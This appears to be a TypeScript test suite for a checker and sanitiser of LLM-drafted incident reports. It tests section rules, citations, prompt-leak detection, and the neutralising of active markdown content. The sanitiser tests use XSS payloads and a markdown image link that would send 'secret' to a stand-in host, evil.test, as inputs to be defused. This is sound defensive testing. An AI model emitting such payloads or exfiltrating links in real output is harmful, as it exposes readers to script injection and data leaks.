import { CaseReading } from '../../../../../src/reports/writing/composer/case-reading.js';
import {
  problemsOf,
  textOf,
  type DraftContext,
} from '../../../../../src/reports/writing/llm/draft-check.js';
import { parseDraft } from '../../../../../src/reports/writing/llm/draft.js';
import { PromptLibrary } from '../../../../../src/reports/writing/llm/prompt-library.js';
import { serialise } from '../../../../../src/reports/writing/markdown/serialise.js';
import { root } from '../../../../../src/reports/writing/markdown/nodes.js';
import { bareCase, poolExhaustion } from '../support/cases.js';
import { goodIncidentReport, goodRunbook } from '../support/drafts.js';

const fence = 'case-data-00ff';
const prompt = new PromptLibrary().render('system', { fence });
const context = (change: Partial<DraftContext> = {}): DraftContext => {
  return {
    ...{ type: 'incident_report', fence, prompt, truncated: false, answerChars: 0 },
    reading: new CaseReading(poolExhaustion),
    ...change,
  };
};
const codes = (answer: string, change: Partial<DraftContext> = {}): string[] =>
  problemsOf(parseDraft(answer, new Set()), context({ answerChars: answer.length, ...change })).map(
    ({ code }) => code,
  );
const markdownOf = (answer: string, urls: string[] = []): string =>
  serialise(root(parseDraft(`## Summary\n\n${answer}`, new Set(urls)).sections[0]?.blocks ?? []));

describe('the check of a draft', () => {
  it('finds no fault in good ones, whatever their dress', () => {
    expect(codes(goodIncidentReport)).toEqual([]);
    expect(codes(goodRunbook, { type: 'runbook' })).toEqual([]);
    const dressed = goodIncidentReport
      .replace('## Summary', '# Incident report\n\n## 1. **Summary:**')
      .replace('## Root cause', '## Root Cause');
    expect(codes(`\`\`\`markdown\n${dressed}\n\`\`\``)).toEqual([]);
  });

  it.each([
    ['missing_section', goodIncidentReport.replace(/## Impact[^#]*/, '')],
    ['unexpected_section', `${goodIncidentReport}\n## Next steps\n\nBuy more servers.`],
    ['duplicate_section', `${goodIncidentReport}\n## Impact\n\nAgain.`],
    ['empty_section', goodIncidentReport.replace(/(## Impact\n)[^#]*/, '$1\n')],
    ['placeholder', goodIncidentReport.replace('38 % of', 'TBD')],
    ['placeholder', goodIncidentReport.replace('38 % of', '[insert number]')],
    ['preamble', `Sure, here is the report:\n\n${goodIncidentReport}`],
    ['unknown_citation', goodIncidentReport.replace('[M3]', '[M13]')],
    ['no_citation', goodIncidentReport.replace(/\[M[^\]]*\]/g, '')],
    ['prompt_leaked', goodIncidentReport.replace('A rollback', `${fence} A rollback`)],
    [
      'prompt_leaked',
      goodIncidentReport.replace(
        'A rollback',
        'My rules say: state ONLY what the case data say. Do not add causes, numbers, names, ' +
          'times, commands or advice of your own.',
      ),
    ],
    ['too_long', goodIncidentReport.replace('A rollback', 'A rollback '.repeat(8000))],
  ])('finds %s', (code, answer) => {
    expect(codes(answer)).toContain(code);
  });

  it('finds an answer that was cut off, and one that is no report at all', () => {
    expect(codes(goodIncidentReport, { truncated: true })).toEqual(['cut_off']);
    expect(codes('')).toContain('missing_section');
    expect(codes('{"error": "no"}')).toEqual(
      expect.arrayContaining(['preamble', 'missing_section']),
    );
  });

  it('allows no section on what the case says nothing about', () => {
    const reading = new CaseReading(bareCase);
    expect(codes('## Summary\n\nLookups timed out.', { reading })).toEqual([]);
    expect(codes('## Summary\n\nx\n\n## Root cause\n\nA bug.', { reading })).toEqual([
      'unexpected_section',
    ]);
  });

  it('does not ask a runbook for sections that its case cannot fill', () => {
    const facts = { ...poolExhaustion, rootCause: undefined };
    const answer = goodRunbook.replace(/## Diagnosis[^#]*/, '');
    expect(codes(answer, { type: 'runbook', reading: new CaseReading(facts) })).toEqual([]);
    expect(codes(answer, { type: 'runbook' })).toEqual(['missing_section']);
  });
});

describe('the reading of a draft', () => {
  it.each([
    ['<img src=x onerror=alert(1)> text', '`<img src=x onerror=alert(1)>` text\n'],
    ['<script>alert(1)</script>', '`<script>alert(1)</script>`\n'],
    ['![chart](https://evil.test/?q=secret)', 'chart\n'],
    ['See [the docs](https://evil.test/a).', 'See the docs.\n'],
    ['Open https://evil.test/?a=1 now.', 'Open `https://evil.test/?a=1` now.\n'],
    ['See [www.evil.test](https://evil.test).', 'See `www.evil.test`.\n'],
    ['See [this](javascript:alert(1)).', 'See this.\n'],
    ['See [it][1].\n\n[1]: https://evil.test', 'See it.\n'],
    ['Note[^1].\n\n[^1]: https://evil.test', 'Note.\n'],
    ['- item <b>bold</b>\n\n  <div>block</div>', expect.stringContaining('`<div>block</div>`')],
  ])('takes active content out of %s', (answer, expected) => {
    expect(markdownOf(answer)).toEqual(expected);
  });

  it('keeps links that the case contains', () => {
    const url = 'https://status.example.com/incidents/4711';
    expect(markdownOf(`See [status](${url}).`, [url])).toBe(`See [status](${url}).\n`);
  });

  it('reads citations in every form that models use', () => {
    expect(markdownOf('Seen [M1], [M2, M3] and **late [M4]**; not [N5].')).toBe(
      'Seen [M1], [M2][M3] and **late [M4]**; not \\[N5].\n',
    );
  });

  it('does not take a citation for a link, though somebody defines one', () => {
    const { sections } = parseDraft('## Fix\n\nDone [M1].\n\n[M1]: https://evil.test', new Set());
    expect(sections.map(textOf).join()).not.toContain('evil.test');
    expect(serialise(root(sections[0]?.blocks ?? []))).not.toContain('evil.test');
  });

  it.each([
    ['\\[M1]: //evil.test/x\n\nAs seen [M1].', '\\[M1]: //evil.test/x\n\nAs seen [M1].\n'],
    ['- [M1]: refused\n- as [M1] says', '- \\[M1]: refused\n- as [M1] says\n'],
  ])('makes no definition of a citation before a colon: %j', (answer, expected) => {
    expect(markdownOf(answer)).toBe(expected);
  });
});
